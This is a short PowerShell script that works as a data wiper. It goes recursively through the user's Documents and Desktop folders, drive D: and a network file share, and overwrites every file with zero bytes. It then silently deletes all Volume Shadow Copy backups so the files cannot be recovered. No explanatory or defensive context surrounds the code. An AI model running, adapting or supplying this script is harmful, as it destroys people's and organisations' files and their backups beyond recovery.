$ziele = @("$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop", "D:\", "\\fileserver\share")
foreach ($z in $ziele) {
  Get-ChildItem $z -Recurse -File -ErrorAction SilentlyContinue | ForEach-Object {
    $len = [Math]::Min($_.Length, 4096)
    [IO.File]::WriteAllBytes($_.FullName, (New-Object byte[] $len))
  }
}
vssadmin delete shadows /all /quiet
